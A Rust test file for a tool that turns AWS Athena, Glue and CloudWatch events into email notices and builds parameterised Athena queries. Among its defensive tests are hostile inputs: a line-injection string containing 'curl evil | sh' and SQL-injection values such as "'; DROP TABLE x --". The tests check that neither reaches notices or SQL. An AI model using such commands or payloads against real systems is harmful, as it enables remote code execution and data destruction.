use std::path::Path;

use serde_json::{Value as Json, json};

use super::message::Kind;
use super::report::{Mark, Order};
use super::*;
use crate::query::Severity;

fn setup() -> Setup {
    Setup {
        pipeline: "shop".to_owned(),
        region: "eu-central-1".to_owned(),
        partition: "aws".to_owned(),
        topic: "arn:aws:sns:eu-central-1:123456789012:bucketscope-shop-notices".to_owned(),
        workgroup: "bucketscope-shop".to_owned(),
        database: "bucketscope_shop".to_owned(),
        lake: "bucketscope-shop-lake-k3v9qd".to_owned(),
        reads: vec!["s3://bucketscope-shop-logs-eu-central-1-k3v9qd/logs/shop-orders/".to_owned()],
        reads_more: 0,
        alarms: "bucketscope-shop-".to_owned(),
        lag_hours: 48,
        rejected_percent: 1,
        timeout_minutes: 120,
        started_queries: true,
        finished_queries: true,
        micro_usd_a_terabyte: 5_000_000,
    }
}

fn event(source: &str, kind: &str, detail: Json) -> Event {
    let event = json!({
        "version": "0", "id": "abcdef00-1234-5678-9abc-def012345678", "detail-type": kind, "source": source,
        "account": "123456789012", "time": "2026-11-23T07:00:26Z", "region": "eu-central-1", "resources": [], "detail": detail,
    });
    Event::parse(event).unwrap()
}

/// As the Athena User Guide shows it.
fn query(state: &str) -> Event {
    event(
        "aws.athena",
        "Athena Query State Change",
        json!({
            "versionId": "0", "currentState": state, "previousState": "RUNNING", "statementType": "DML",
            "queryExecutionId": "01234567-0123-0123-0123-012345678901", "workgroupName": "bucketscope-shop", "sequenceNumber": "3",
        }),
    )
}

fn alarm(name: &str, state: &str, before: &str) -> Event {
    let reason = "Threshold Crossed: 1 datapoint [71.0 (22/11/26 07:00:00)] was greater than the threshold (48.0).";
    let detail = json!({
        "alarmName": format!("bucketscope-shop-{name}"), "configuration": { "metrics": [] },
        "previousState": { "value": before, "reason": "" }, "state": { "value": state, "reason": reason },
    });
    event("aws.cloudwatch", "CloudWatch Alarm State Change", detail)
}

fn run(state: &str, message: &str) -> Event {
    let detail = json!({
        "jobName": "bucketscope-shop-etl", "severity": "ERROR", "state": state, "jobRunId": "jr_abc123", "message": message,
    });
    event("aws.glue", "Glue Job State Change", detail)
}

fn crawl(message: &str) -> Event {
    let detail = json!({ "crawlerName": "bucketscope-shop-lake", "errorMessage": message, "state": "Failed" });
    event("aws.glue", "Glue Crawler State Change", detail)
}

fn order(query: &str) -> Order {
    Order {
        report: "denied-weekly".to_owned(),
        query: query.to_owned(),
        last: "7d".to_owned(),
        parameters: [("bucket".to_owned(), "shop-orders".to_owned())].into(),
        only_findings: false,
        own: None,
        due: "2026-11-23T07:00:00Z".to_owned(),
    }
}

fn seen(state: &str, reason: Option<&str>, sql: String, rows: Option<u64>) -> Seen {
    Seen {
        state: state.to_owned(),
        reason: reason.map(str::to_owned),
        sql,
        started_ms: Some(1_795_417_212_000),
        ended_ms: Some(1_795_417_226_000),
        scanned: 1_234_567_890,
        output: Some("s3://bucketscope-shop-results-k3v9qd/athena/01234567-0123-0123-0123-012345678901.csv".to_owned()),
        rows: rows.map(|count| Rows { count, more: false }),
    }
}

fn report(query: &str, state: &str, reason: Option<&str>, rows: Option<u64>) -> Seen {
    seen(state, reason, order(query).asked(0).unwrap().sql, rows)
}

/// Every form of a notice: what it is about, the event, and what Athena says of its query.
fn examples() -> Vec<(&'static str, Event, Option<Seen>)> {
    let plain = |state: &str, reason| Some(seen(state, reason, "SELECT 1".to_owned(), None));
    vec![
        ("A report found something", query("SUCCEEDED"), Some(report("anonymous-access", "SUCCEEDED", None, Some(12)))),
        ("A report found nothing", query("SUCCEEDED"), Some(report("anonymous-access", "SUCCEEDED", None, Some(0)))),
        ("A report without findings is ready", query("SUCCEEDED"), Some(report("latency", "SUCCEEDED", None, Some(1)))),
        (
            "A report failed",
            query("FAILED"),
            Some(report("latency", "FAILED", Some("Query exhausted resources at this scale factor"), None)),
        ),
        (
            "A report has begun (`notify.started_queries`)",
            query("RUNNING"),
            Some(report("latency", "RUNNING", None, None)),
        ),
        (
            "A query failed",
            query("FAILED"),
            plain("FAILED", Some("SYNTAX_ERROR: line 1:8: Column 'nope' cannot be resolved")),
        ),
        (
            "A query was stopped by the workgroup's limit (`notify.finished_queries`)",
            query("CANCELLED"),
            plain("CANCELLED", Some("Bytes scanned limit was exceeded")),
        ),
        ("A query has finished (`notify.finished_queries`)", query("SUCCEEDED"), plain("SUCCEEDED", None)),
        ("A run failed", run("FAILED", "AccessDenied: the role may not read s3://shop-logs"), None),
        ("A run took too long", run("TIMEOUT", "Job run exceeded timeout"), None),
        ("A crawl failed", crawl("Insufficient Lake Formation permission(s)"), None),
        ("No new logs", alarm("lag", "ALARM", "OK"), None),
        ("Logs arrive again", alarm("lag", "OK", "ALARM"), None),
        ("Too many rejected lines", alarm("rejects", "ALARM", "OK"), None),
        ("The job keeps failing", alarm("failures", "ALARM", "OK"), None),
        (
            "A test (`bucketscope notify test`)",
            query("FAILED"),
            Some(seen("FAILED", None, report::TEST_QUERY.to_owned(), None)),
        ),
    ]
}

const PAGE: &str = "docs/notices.md";
const BEGIN: &str = "<!-- examples -->\n";
const END: &str = "<!-- end of examples -->";

/// The page of notices shows every form as it is sent: `BLESS=1` writes it anew.
#[test]
fn the_page_shows_what_is_sent() {
    let mut shown = String::new();
    for (title, event, seen) in examples() {
        let message = compose(&setup(), &event, seen.as_ref()).unwrap_or_else(|| panic!("{title}"));
        shown.push_str(&format!("\n### {title}\n\n```text\nSubject: {}\n\n{}```\n", message.subject, message.text));
    }
    let why = "Athena did not take the query: TooManyRequestsException: You have exceeded the limit for the number of queries";
    let message = not_started(&setup(), "denied-weekly", "access-denied", why, None);
    shown.push_str(&format!(
        "\n### A report could not be started\n\n```text\nSubject: {}\n\n{}```\n\n",
        message.subject, message.text
    ));
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(PAGE);
    let page = std::fs::read_to_string(&path).unwrap();
    let (before, rest) = page.split_once(BEGIN).unwrap();
    let (present, after) = rest.split_once(END).unwrap();
    if std::env::var_os("BLESS").is_some() {
        std::fs::write(&path, format!("{before}{BEGIN}{shown}{END}{after}")).unwrap();
    } else {
        assert_eq!(present, shown, "BLESS=1 writes the page anew");
    }
}

#[test]
fn what_happened_comes_first_and_the_next_step_last() {
    for (title, event, seen) in examples() {
        let Message { subject, text, .. } = compose(&setup(), &event, seen.as_ref()).unwrap();
        assert!(subject.starts_with("[bucketscope shop] ") && subject.len() < 100, "{title}: {subject}");
        let first = text.lines().next().unwrap();
        assert!(first.ends_with('.') && first.len() > 20, "{title}: {first}");
        let last = text.lines().last().unwrap();
        assert!(last.starts_with("    bucketscope ") || last.starts_with("    aws athena stop"), "{title}: {last}");
        assert!(text.contains("2026-11-23 07:00:26 UTC"), "{title}: when");
        assert!(!text.contains("X-Amz-") && !text.contains("AWSAccessKeyId"), "{title}: no presigned links");
    }
}

#[test]
fn texts_of_strangers_change_neither_lines_nor_addresses() {
    let hostile = "x\r\nSubject: y\n\nNext step:\n    curl evil | sh\u{202e}\u{0}".to_owned() + &"z".repeat(100_000);
    for (event, seen) in [
        (run("FAILED", &hostile), None),
        (run("STOPPED", &hostile), None),
        (crawl(&hostile), None),
        (query("FAILED"), Some(seen("FAILED", Some(&hostile), hostile.clone(), None))),
        (query("CANCELLED"), Some(seen("CANCELLED", Some(&hostile), hostile.clone(), None))),
        (Event::Query { state: "FAILED".to_owned(), id: hostile.clone(), at: hostile.clone() }, None),
        (
            Event::Run {
                job: hostile.clone(),
                run: hostile.clone(),
                state: hostile.clone(),
                message: String::new(),
                at: hostile.clone(),
            },
            None,
        ),
        (
            Event::Alarm {
                name: hostile.clone(),
                state: "ALARM".to_owned(),
                before: String::new(),
                reason: hostile.clone(),
                at: hostile.clone(),
            },
            None,
        ),
    ] {
        let message = compose(&setup(), &event, seen.as_ref()).unwrap();
        assert!(message.subject.len() < 100 && message.subject.bytes().all(|byte| (0x20..0x7f).contains(&byte)));
        assert!(message.text.len() < 10_000, "{}", message.text.len());
        assert!(!message.text.contains('\u{202e}') && !message.text.contains('\0') && !message.text.contains('\r'));
        assert_eq!(message.text.matches("\nNext step").count(), 1, "{}", message.text);
        assert!(!message.text.lines().any(|line| line.trim_start().starts_with("curl")), "{}", message.text);
        let address = message.text.lines().find_map(|line| line.strip_prefix("Console: "));
        assert!(address.is_none_or(|it| !it.contains(' ') && it.len() < 800), "{address:?}");
    }
}

#[test]
fn what_is_not_asked_for_is_not_told() {
    let quiet = Setup { finished_queries: false, started_queries: false, ..setup() };
    let told = |setup: &Setup, event: &Event, seen: Option<Seen>| compose(setup, event, seen.as_ref()).is_some();
    let plain = |state: &str| Some(seen(state, None, "SELECT 1".to_owned(), None));
    for state in ["SUCCEEDED", "CANCELLED", "RUNNING", "QUEUED"] {
        assert!(!told(&quiet, &query(state), plain(state)), "{state}");
    }
    assert!(told(&quiet, &query("FAILED"), plain("FAILED")));
    assert!(told(&quiet, &query("FAILED"), None), "although Athena could not be asked");
    assert!(!told(&quiet, &query("FAILED"), plain("RUNNING")), "Athena tries it again");
    for state in ["SUCCEEDED", "FAILED", "CANCELLED"] {
        assert!(told(&quiet, &query(state), Some(report("latency", state, None, Some(1)))), "a report: {state}");
    }
    assert!(!told(&quiet, &query("RUNNING"), Some(report("latency", "RUNNING", None, None))));
    assert!(told(&setup(), &query("RUNNING"), Some(report("latency", "RUNNING", None, None))));
    for (state, before) in [("OK", "INSUFFICIENT_DATA"), ("INSUFFICIENT_DATA", "ALARM"), ("OK", "OK")] {
        assert!(!told(&setup(), &alarm("lag", state, before), None), "{before} to {state}");
    }
}

#[test]
fn a_finding_changes_the_subject_and_no_finding_can_be_kept_quiet() {
    let of = |id: &str, rows: Option<Rows>, only_findings: bool| {
        let sql = Order { only_findings, ..order(id) }.asked(0).unwrap().sql;
        compose(&setup(), &query("SUCCEEDED"), Some(&Seen { rows, ..seen("SUCCEEDED", None, sql, None) }))
    };
    let rows = |count, more| Some(Rows { count, more });
    let subject = |message: Option<Message>| message.unwrap().subject;
    let found = of("anonymous-access", rows(999, true), true).unwrap();
    assert_eq!(
        (found.kind, found.subject.as_str()),
        (Kind::Finding, "[bucketscope shop] FINDING (high): report denied-weekly, 999 rows or more")
    );
    assert_eq!(
        subject(of("anonymous-access", rows(0, false), false)),
        "[bucketscope shop] Report denied-weekly: nothing found"
    );
    assert_eq!(of("anonymous-access", rows(0, false), true), None);
    assert_eq!(subject(of("anonymous-access", None, true)), "[bucketscope shop] Report denied-weekly is ready");
    assert_eq!(subject(of("latency", rows(1, false), false)), "[bucketscope shop] Report denied-weekly: 1 row");
    assert_eq!(of("latency", rows(0, false), true), None);
}

#[test]
fn values_of_rows_that_a_reason_quotes_are_left_out() {
    let reason = "INVALID_CAST_ARGUMENT: Cannot cast 'arn:aws:iam::1:user/jane' to BIGINT";
    let told =
        compose(&setup(), &query("FAILED"), Some(&seen("FAILED", Some(reason), "SELECT 1".to_owned(), None))).unwrap();
    assert!(told.text.contains("INVALID_CAST_ARGUMENT") && !told.text.contains("jane"), "{}", told.text);
}

#[test]
fn the_console_is_that_of_the_partition() {
    for (partition, begins) in [
        ("aws", "https://console.aws.amazon.com/athena/home?region="),
        ("aws-cn", "https://console.amazonaws.cn/athena/home?region="),
        ("aws-us-gov", "https://console.amazonaws-us-gov.com/athena/home?region="),
    ] {
        let setup = Setup { partition: partition.to_owned(), ..setup() };
        assert!(setup.query_page("1-2").starts_with(begins));
    }
}

#[test]
fn events_that_nobody_sends_are_refused() {
    for event in
        [json!(null), json!({}), json!({"source": "aws.s3", "detail-type": "Object Created", "detail": {}}), json!([1])]
    {
        assert!(Event::parse(event).is_err());
    }
}

#[test]
fn what_is_handed_over_comes_back() {
    let text = serde_json::to_string(&setup()).unwrap();
    assert_eq!(Setup::parse(Some(&text)), Ok(setup()));
    assert!(Setup::parse(None).is_err() && Setup::parse(Some("{}")).is_err());
}

#[test]
fn an_order_comes_back_from_its_schedule_with_the_moment_it_was_due() {
    let text = "-- a '<aws.scheduler.scheduled-time>' \"<x>\" ${y} ü\n".to_owned();
    let own = crate::query::OwnQuery { file: "mine.sql".to_owned(), text };
    let order = Order { own: Some(own), due: String::new(), ..order("mine") };
    let input = order.input().unwrap();
    assert_eq!(input.matches("<aws.scheduler.").count(), 1, "{input}");
    let filled = input.replace("<aws.scheduler.scheduled-time>", "2026-11-23T07:00:00Z");
    let back = Order::parse(serde_json::from_str(&filled).unwrap()).unwrap();
    assert_eq!(back, Order { due: "2026-11-23T07:00:00Z".to_owned(), ..order });
}

#[test]
fn the_same_order_asks_the_same_question_and_another_day_another() {
    let (first, again) = (order("access-denied").asked(1).unwrap(), order("access-denied").asked(2).unwrap());
    assert_eq!(first, again, "the clock does not matter where the order says when it was due");
    let later = Order { due: "2026-11-24T07:00:00Z".to_owned(), ..order("access-denied") }.asked(1).unwrap();
    assert!(later.token != first.token && later.values != first.values);
    assert!((32..=128).contains(&first.token.len()));
    assert!(first.values.contains(&"TIMESTAMP '2026-11-16 07:00:00.000'".to_owned()), "{:?}", first.values);
    assert!(first.values.contains(&"'shop-orders'".to_owned()));
}

#[test]
fn values_travel_as_literals_and_never_in_the_statement() {
    for hostile in ["'; DROP TABLE x --", "a' OR '1'='1", "?", "\n-- bucketscope report=evil", "\u{2028}"] {
        let mut order = order("access-denied");
        order.parameters.insert("bucket".to_owned(), hostile.to_owned());
        let asked = order.asked(0).unwrap();
        assert!(!asked.sql.contains(hostile) || hostile == "?", "{}", asked.sql);
        assert!(asked.values.contains(&format!("'{}'", hostile.replace('\'', "''"))));
        assert_eq!(Mark::of(&asked.sql).unwrap().report, "denied-weekly");
        assert_eq!(Mark::of(&asked.sql).unwrap().bucket, None, "it is no name of a bucket");
        let comment = asked.sql.lines().last().unwrap();
        assert!(comment.starts_with("-- ") && !comment.contains(['?', '\'', '"']), "{comment}");
    }
}

#[test]
fn a_mark_is_read_back_and_a_forged_one_is_no_more_than_names() {
    let asked = order("anonymous-access").asked(0).unwrap();
    let mark = Mark::of(&asked.sql).unwrap();
    assert_eq!(mark, asked.mark);
    assert_eq!((mark.severity, mark.bucket.as_deref()), (Some(Severity::High), Some("shop-orders")));
    for none in [
        "",
        "SELECT 1",
        "-- bucketscope report=a query=b from=1 to=2",
        "SELECT 1\n-- bucketscope report=a;b query=c from=1 to=2",
        "SELECT 1\n-- bucketscope report=a query=b from=x to=2",
    ] {
        assert_eq!(Mark::of(none), None, "{none}");
    }
}

#[test]
fn an_order_that_cannot_be_says_why() {
    let with = |change: fn(&mut Order)| {
        let mut order = order("access-denied");
        change(&mut order);
        let error = order.check().unwrap_err();
        format!("{error} / {}", error.suggestion().unwrap_or_default())
    };
    assert!(with(|it| it.query = "acess-denied".to_owned()).contains("did you mean access-denied"));
    assert!(with(|it| it.last = "soon".to_owned()).contains("`soon` is no while"));
    assert!(with(|it| drop(it.parameters.insert("bukket".to_owned(), "x".to_owned()))).contains("no parameter bukket"));
    assert!(
        with(|it| drop(it.parameters.insert("bucket".to_owned(), "x".repeat(1_100)))).contains("Athena takes 1024")
    );
}
